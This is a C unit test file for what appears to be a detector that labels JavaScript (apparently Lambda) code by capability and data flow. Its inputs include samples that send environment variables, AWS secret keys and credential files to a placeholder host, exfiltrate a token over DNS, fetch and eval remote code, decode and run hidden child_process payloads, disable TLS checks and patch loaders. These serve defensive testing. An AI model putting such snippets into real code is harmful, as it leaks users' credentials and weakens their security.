/* SPDX-License-Identifier: Apache-2.0
 *
 * behavior_javascript_test.c - what is said of JavaScript code.
 */
#include "behavior_case.h"

#define NOTHING "capability\nflow\naws-call\nendpoint"

/* Modules of a bundle, by number, by path and in a list: each loads the other by the loader. */
#define LOADER                                                                                     \
    "function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};"             \
    "return e[n](s,s.exports,r),s.exports}"
#define LOADER_4                                                                                   \
    "function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,exports:{}};"                  \
    "return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}"

static const struct behavior_case cases[] = {
    { "(()=>{var e={17:(e,t,r)=>{const n=r(42);e.exports={a:()=>n.get('http://a.invalid')}},"
      "42:e=>{e.exports=require('http')}},t={};" LOADER "r(17).a()})();",
      "capability network http.get http://a.invalid", NULL },
    { "(()=>{var e={'./a.js':(e,t,r)=>{r('./b.js').exec('id')},"
      "'./b.js':e=>{e.exports=require('child_process')}},t={};" LOADER "r('./a.js')})();",
      "capability process child_process.exec id", NULL },
    { "(function(e){var t={};" LOADER_4 "return n(0)})([function(e,t,n){n(1).exec('id')},"
      "function(e){e.exports=require('child_process')}]);",
      "capability process child_process.exec id", NULL },
    { "(()=>{var e={1:(e,t,r)=>{r(2).a;e.exports={b:r}},2:(e,t,r)=>{r(1).b;r(2)}},t={};" LOADER
      "r(1)})();",
      NULL, NOTHING },
    { "var E = require('http').Agent; function S() {}\nS.prototype = Object.create(E.prototype);\n"
      "S.prototype.init = function() {};",
      NULL, "patch" },
    { "function r(){} r.g = globalThis; fetch('http://a.invalid/' + r.g['pro' + 'cess'].env.X);",
      "capability env-read process.env X", NULL },
    /* names and aliases */
    { "require('tls').connect({ host: h, rejectUnauthorized: false });",
      "capability tls-unverified", NULL },
    { "require('https').globalAgent.options.rejectUnauthorized = false;",
      "capability tls-unverified", NULL },
    { "require('tls').connect({ host: h, checkServerIdentity: () => undefined });",
      "capability tls-unverified", NULL },
    { "process.env[['NODE', 'TLS', 'REJECT', 'UNAUTHORIZED'].join('_')] ||= '0';",
      "capability tls-unverified", NULL },
    { "exports.parse = (o) => { o.NODE_TLS_REJECT_UNAUTHORIZED = '0'; return o; };",
      "capability tls-unverified", NULL },
    { "require('tls').connect({ host: h, rejectUnauthorized: true });", NULL,
      "capability tls-unverified" },
/* another function in the place of a module's */
#define MINE "function f() {} const fs = require('fs');\n"
    { MINE "Object.defineProperties(fs, { open: { value: f }, stat: { get() {} } });",
      "capability patch fs.open\ncapability patch fs.stat", NULL },
    { MINE "({ a: fs.open } = { a: f }); [fs.stat] = [f];",
      "capability patch fs.open\ncapability patch fs.stat", NULL },
    { MINE "for (fs.open of [f]);", "capability patch fs.open", NULL },
    { MINE "fs.open ||= f; fs.stat \?\?= f;", "capability patch fs.open\ncapability patch fs.stat",
      NULL },
    { MINE "let a = { x: 1 }; a.y ||= f; const { open = f } = fs;", NULL, "patch" },
#undef MINE
    { "delete require.cache[require.resolve('./x')];", NULL, "capability patch-loader" },
    { "require('vm').runInThisContext(require('fs').readFileSync(__dirname + '/x.css', 'utf8'));",
      "flow data-file eval", NULL },
    { "const { Worker } = require('worker_threads');\nnew Worker(process.env.X, { eval: true });",
      "capability worker\nflow env-read eval", NULL },
    { "exports.h = (event) => require(event.m)[event.f]();", "flow event eval", NULL },
    { "console.log(process.report.getReport());", "capability env-all\nflow env-all log", NULL },
    { "require('child_process').exec('id');", "capability process child_process.exec id import",
      NULL },
    { "const {exec: e} = require('node:child_process'); e('id');",
      "capability process child_process.exec id", NULL },
    { "import {execSync as x} from 'child_process'; x('id');",
      "capability process child_process.execSync id", NULL },
    { "import * as cp from 'node:child_process'; cp.spawn('sh', ['-c', 'curl http://a.invalid']);",
      "capability process child_process.spawn\ncapability network curl", NULL },
    { "const cp = require('child' + '_process'); cp['ex' + 'ec']('id');",
      "capability process child_process.exec\ncapability dynamic-import child_process\n"
      "capability hidden-name child_process.exec",
      NULL },
    { "global['ev' + 'al']('1');", "capability dynamic-code eval\ncapability hidden-name eval",
      NULL },
    { "(0, eval)('1');", "capability dynamic-code eval", NULL },
    { "const f = eval; f('1');", "capability dynamic-code eval", NULL },
    { "new Function('return 1')();", "capability dynamic-code Function", NULL },
    { "[].constructor.constructor('return process')();", "capability dynamic-code Function", NULL },
    { "(() => {}).constructor('return 1')();", "capability dynamic-code Function", NULL },
    { "eval.call(null, '1');", "capability dynamic-code eval", NULL },
    { "Reflect.apply(require('child_process').exec, null, ['id']);",
      "capability process child_process.exec id", NULL },
    { "const {promisify} = require('util'); const cp = require('child_process');"
      "const run = promisify(cp.exec); run('id');",
      "capability process child_process.exec id", NULL },
    { "var _c = __importStar(require('child_process')); _c.exec('id');",
      "capability process child_process.exec", NULL },
    { "var r = require; r('child_process').exec('id');", "capability process child_process.exec",
      NULL },
    { "process.mainModule.require('child_process').exec('id');",
      "capability process child_process.exec", NULL },
    { "(async () => { const cp = await import('child_process'); cp.exec('id'); })();",
      "capability process child_process.exec import", NULL },
    /* classes */
    { "const net = require('net'); class C extends net.Socket { go() { super.connect(80, "
      "'a.invalid'); } }"
      "new C().go();",
      "capability network net.Socket", NULL },
    { "const vm = require('vm'); class S extends vm.Script {} new S('1');",
      "capability dynamic-code vm.Script", NULL },
    { "const vm = require('vm'); class S extends vm.Script { constructor(x) { super(x); } }"
      "new S('1');",
      "capability dynamic-code vm.Script", NULL },
    { "const {client} = require('./client'); client.post('/', JSON.stringify(process.env));",
      "flow env-all network", NULL },
    /* texts that are put together */
    { "fetch('ht' + 'tps://' + 'a.' + 'invalid');", "endpoint https://a.invalid", NULL },
    { "fetch(`https://${'a.'}${'inva'}lid/`);", "endpoint https://a.invalid/", NULL },
    { "fetch('\\x68ttp://a\\u002einvalid');", "endpoint http://a.invalid", NULL },
    { "fetch(['http:', '', 'a.' + 'invalid'].join('/'));", "endpoint http://a.invalid", NULL },
    { "fetch('dilavni.a//:ptth'.split('').reverse().join(''));", "endpoint http://a.invalid",
      NULL },
    { "fetch(String.fromCharCode(104,116,116,112,58,47,47,97,46,98,99));", "endpoint http://a.bc",
      NULL },
    { "fetch([104,116,116,112,58,47,47,97,46,98,99].map(c => String.fromCharCode(c)).join(''));",
      "endpoint http://a.bc", NULL },
    { "fetch(Buffer.from('aHR0cDovL2EuaW52YWxpZA==', 'base64').toString());",
      "endpoint http://a.invalid", NULL },
    { "fetch(atob('aHR0cDovL2EuaW52YWxpZA=='));", "endpoint http://a.invalid\ncapability decode",
      NULL },
    { "const k = ['aHR0cDov', 'L2EuaW52', 'YWxpZA==']; function d(i) { return k[i]; }"
      "fetch(atob(d(0) + d(1) + d(2)));",
      "endpoint http://a.invalid", NULL },
    { "const https = require('https'); https.request({hostname: ['a', 'invalid'].join('.')});",
      "capability network https.request a.invalid\nendpoint a.invalid", NULL },
    /* decoded code */
    { "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik=', 'base64')"
      ".toString('utf8'));",
      "capability decode-run eval\nflow decode eval\n"
      "capability process child_process.exec id is run as code",
      NULL },
    { "eval(require('zlib').inflateSync(Buffer.from(x, 'base64')).toString());",
      "capability decode-run eval", NULL },
    { "require('vm').runInThisContext(atob(x));", "capability decode-run vm.runInThisContext",
      NULL },
    /* the environment */
    { "const a = process.env.HOME;", "capability env-read process.env HOME", "env-all" },
    { "const {AWS_SESSION_TOKEN: t} = process.env;", "capability credentials AWS_SESSION_TOKEN",
      "env-all" },
    { "console.log(JSON.stringify(process.env));", "capability env-all process.env", NULL },
    { "const c = {...process.env};", "capability env-all", NULL },
    { "process.env.NODE_OPTIONS = '--require /opt/x.js';", "capability env-write NODE_OPTIONS",
      "env-read" },
    { "process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = '0';",
      "capability env-write\ncapability tls-unverified", NULL },
    { "delete process.env.X;", "capability env-write X", NULL },
    /* flows */
    { "const https = require('https'); const r = https.request('https://a.invalid');"
      "r.write(JSON.stringify(process.env)); r.end();",
      "flow env-all network import", NULL },
    { "exports.handler = async () => { await fetch('https://a.invalid', {method: 'POST', "
      "body: process.env.AWS_SECRET_ACCESS_KEY}); };",
      "flow credentials network fetch call", "import flow" },
    { "const send = d => fetch('https://a.invalid', {body: d}); send(JSON.stringify(process.env));",
      "flow env-all network import", NULL },
    { "fetch('https://a.invalid/x').then(r => r.text()).then(t => eval(t));",
      "flow network eval eval", NULL },
    { "require('https').get('https://a.invalid', r => { let b = ''; r.on('data', d => b += d);"
      "r.on('end', () => eval(b)); });",
      "flow network eval", NULL },
    { "const fs = require('fs'); fetch('http://a.invalid').then(r => r.text())"
      ".then(t => fs.writeFileSync('/tmp/x', t));",
      "flow network file\ncapability file-write /tmp/x", NULL },
    { "const fs = require('fs'), os = require('os');"
      "fetch('http://a.invalid', {body: fs.readFileSync(os.homedir() + '/.aws/credentials')});",
      "flow secret network", NULL },
    { "require('dns').lookup(process.env.AWS_SESSION_TOKEN + '.a.invalid');",
      "flow credentials dns", NULL },
    { "class A { constructor() { this.e = process.env.AWS_SESSION_TOKEN; }"
      "go() { fetch('http://a.invalid', {body: this.e}); } }",
      "flow credentials network", NULL },
    { "require('child_process').spawn('ls', [], {env: process.env});", "capability process ls",
      "flow\nenv-all" },
    /* AWS */
    { "const AWS = require('aws-sdk'); const s3 = new AWS.S3(); s3.putObject({}).promise();",
      "aws-call s3 PutObject", "Promise" },
    { "import {S3Client, PutObjectCommand} from '@aws-sdk/client-s3';"
      "new S3Client({}).send(new PutObjectCommand({}));",
      "aws-call s3 PutObject", "Send" },
    { "const S3 = require('aws-sdk/clients/s3'); const c = new S3(); c.getObject({});",
      "aws-call s3 GetObject", NULL },
    { "import {STS} from '@aws-sdk/client-sts'; new STS({}).assumeRole({});",
      "aws-call sts AssumeRole", NULL },
    { "const A = require('aws-sdk'); A.config.credentials.get(() => {});", "capability credentials",
      NULL },
    /* patches */
    { "const M = require('module'); const o = M._load; M._load = function () { return o(); };",
      "capability patch-loader module._load", NULL },
    { "const AWS = require('aws-sdk'); AWS.Request.prototype.send = function () {};",
      "capability patch-sdk aws-sdk.Request.prototype.send", NULL },
    { "const h = require('http'); h.request = () => 1;", "capability patch http.request", NULL },
    { "require.extensions['.js'] = () => 1;", "capability patch-loader require.extensions", NULL },
    /* Lambda */
    { "fetch(`http://${process.env.AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation/next`);",
      "capability runtime-api\ncapability env-read AWS_LAMBDA_RUNTIME_API", NULL },
    { "const u = base + '/2022-07-01/telemetry'; fetch(u);", "capability telemetry-api", NULL },
    { "fetch('http://169.254.170.2' + process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI)"
      ".then(r => r.json()).then(c => fetch('https://a.invalid', {body: c}));",
      "capability metadata\nflow credentials network\nflow metadata network", NULL },
    /* what bundlers make */
    { "(() => { var e = { 123: (e) => { e.exports = require('child_process'); } };"
      "var t = {}; function n(i) { var r = t[i]; if (r) return r.exports;"
      "var o = t[i] = {exports: {}}; return e[i](o, o.exports, n), o.exports; }"
      "n(123).exec('id'); })();",
      "capability process child_process.exec id", NULL },
    { "exports.handler = async (event, context) => {"
      "await new Promise((r) => setTimeout(r, event.secret.charCodeAt(0))); };",
      "flow event wait setTimeout", NULL },
    /* what is nothing */
    { "// eval(process.env)\n'use strict'; const a = [1].map(x => x + 1); module.exports = a;",
      NULL, NOTHING },
    { "class Q { exec() {} eval() {} } new Q().exec('id'); /a/.exec('b');", NULL, NOTHING },
    { "function f(fetch) { fetch('http://a.invalid'); }", NULL, NOTHING },
    { "exports.get = function (url) { return this.request(url); };", NULL, NOTHING },
    { "var root = typeof self === 'object' ? self : Function('return this')();", NULL, NOTHING },
    { "new Function('return this')().eval(x);", "capability dynamic-code eval", NULL },
    { "Function('return this' + x)();", "capability dynamic-code Function", NULL },
};

static void test_cases(void **state)
{
    (void)state;
    check_cases(LW_LANG_JAVASCRIPT, cases, LW_COUNT(cases));
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(test_cases) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
